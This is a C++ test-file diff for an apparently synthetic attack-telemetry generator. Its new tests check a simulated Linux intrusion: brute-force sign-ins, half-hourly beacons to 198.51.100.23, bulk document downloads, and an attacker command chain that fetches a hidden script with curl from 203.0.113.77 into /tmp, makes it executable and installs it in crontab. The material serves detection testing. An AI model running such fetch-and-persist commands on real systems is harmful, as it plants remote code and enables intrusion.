@@ -25,7 +25,6 @@ struct Seen {
 
 class Observer : public Recorder {
  public:
-  using Recorder::record;
   void record(const WindowsEvent& event) override {
     ++events;
     EXPECT_NE(find_event_kind(event.channel, event.id), nullptr) << event.id;
@@ -38,8 +37,48 @@ class Observer : public Recorder {
                                            {}});
     for (const auto& [key, value] : event.data) seen.data.emplace(key, value);
   }
+  void record(const AuditEvent& event) override {
+    ++events;
+    EXPECT_GT(event.serial, last_serial[event.host]);
+    EXPECT_GE(event.time, last_time[event.host]);
+    last_serial[event.host] = event.serial;
+    last_time[event.host] = event.time;
+    if (event.label != nullptr) ++stages[std::string(event.label->stage)];
+    if (const auto* execution = std::get_if<Execution>(&event.fact)) {
+      std::string line;
+      for (const std::string& argument : execution->arguments) line += argument + " ";
+      (event.label != nullptr ? attackers_commands : lawful_commands).insert(line);
+    }
+  }
+  void record(const SyslogLine&) override { ++events; }
+  void record(const Connection& connection) override {
+    ++events;
+    if (connection.target == "198.51.100.23" && connection.target_port == 443) beacons.push_back(connection.time);
+  }
+  void record(const Lookup&) override { ++events; }
+  void record(const OfficeOperation& operation) override {
+    ++events;
+    if (operation.name == "FileDownloaded") downloads[operation.client.address].push_back(operation.time);
+  }
+  void record(const SignIn& sign_in) override {
+    ++events;
+    sign_ins[sign_in.client.address].push_back(sign_in.error);
+  }
+  void record(const Alert& alert) override {
+    ++events;
+    ++alerts[alert.label != nullptr];
+  }
 
   std::vector<Seen> windows;
+  std::map<std::size_t, std::uint64_t> last_serial;
+  std::map<std::size_t, Ticks> last_time;
+  std::map<std::string, int> stages;  // of the Linux hosts' audit events
+  std::set<std::string> attackers_commands;
+  std::set<std::string> lawful_commands;
+  std::vector<Ticks> beacons;
+  std::map<std::string, std::vector<Ticks>> downloads;
+  std::map<std::string, std::vector<int>> sign_ins;
+  std::map<bool, int> alerts;
   std::uint64_t events = 0;
 };
 
@@ -53,7 +92,7 @@ std::vector<Seen> events_of(const Options& options) {
 
 TEST(Scenario, TimesAndRecordNumbersOfAHostGoUp) {
   std::map<std::string, Seen> last;
-  for (const Seen& event : events_of({60'000, 1})) {
+  for (const Seen& event : events_of({110'000, 1})) {
     auto [at, first] = last.try_emplace(event.host, event);
     if (!first) {
       EXPECT_LT(at->second.time, event.time);
@@ -68,7 +107,7 @@ TEST(Scenario, TheAttackIsOnOneHostAndSeedsDoNotChangeItsSteps) {
   std::vector<std::map<std::string, int>> counts;
   for (std::uint64_t seed : {1U, 9U}) {
     auto& of_seed = counts.emplace_back();
-    for (const Seen& event : events_of({60'000, seed})) {
+    for (const Seen& event : events_of({110'000, seed})) {
       if (event.stage.empty()) continue;
       EXPECT_EQ(event.host, "FIN-TS01.harbourline.example");
       ++of_seed[event.stage];
@@ -138,6 +177,46 @@ TEST(Scenario, EveryProcessHasAParentOfTheSameName) {
     }
     paths[event.data.at("NewProcessId")] = event.data.at("NewProcessName");
   }
+}
+
+TEST(Scenario, TheLinuxHostIsGuessedEnteredAndKept) {
+  Observer seen;
+  generate({10'000, 1}, seen, [] { return false; });
+  EXPECT_GE(seen.stages["credential access"], 250);
+  EXPECT_TRUE(seen.attackers_commands.contains("curl -fsSL http://203.0.113.77:8080/u/kw.sh -o /tmp/.kw.sh "));
+  EXPECT_TRUE(seen.attackers_commands.contains("chmod +x /tmp/.kw.sh "));
+  EXPECT_TRUE(seen.attackers_commands.contains("crontab - "));
+  // The administrator does the like, lawfully.
+  EXPECT_TRUE(seen.lawful_commands.contains("chmod +x /tmp/up.sh "));
+  EXPECT_TRUE(seen.lawful_commands.contains("crontab -e "));
+}
+
+TEST(Scenario, TheImplantCallsHomeAboutEveryHalfHourUntilItIsFound) {
+  Observer seen;
+  generate({10'000, 1}, seen, [] { return false; });
+  ASSERT_GT(seen.beacons.size(), 200U);
+  std::set<Ticks> pauses;
+  for (std::size_t i = 1; i < seen.beacons.size(); ++i) {
+    const Ticks pause = seen.beacons[i] - seen.beacons[i - 1];
+    EXPECT_GT(pause, 23 * ticks_per_minute);
+    EXPECT_LT(pause, 37 * ticks_per_minute);
+    pauses.insert(pause / ticks_per_minute);
+  }
+  EXPECT_GT(pauses.size(), 6U);
+}
+
+TEST(Scenario, DocumentsAreDownloadedFromTheSameAddressAfterFailures) {
+  Observer seen;
+  generate({10'000, 1}, seen, [] { return false; });
+  const auto& attackers = seen.downloads["203.0.113.77"];
+  ASSERT_EQ(attackers.size(), 420U);
+  EXPECT_LT(attackers.back() - attackers.front(), 15 * ticks_per_minute);
+  const auto& errors = seen.sign_ins["203.0.113.77"];
+  ASSERT_GT(errors.size(), 12U);
+  EXPECT_NE(errors.front(), 0);
+  EXPECT_EQ(errors.back(), 0);
+  EXPECT_EQ(seen.alerts[true], 7);
+  EXPECT_GE(seen.alerts[false], 8);
 }
 
 TEST(Scenario, StopsWhenAsked) {
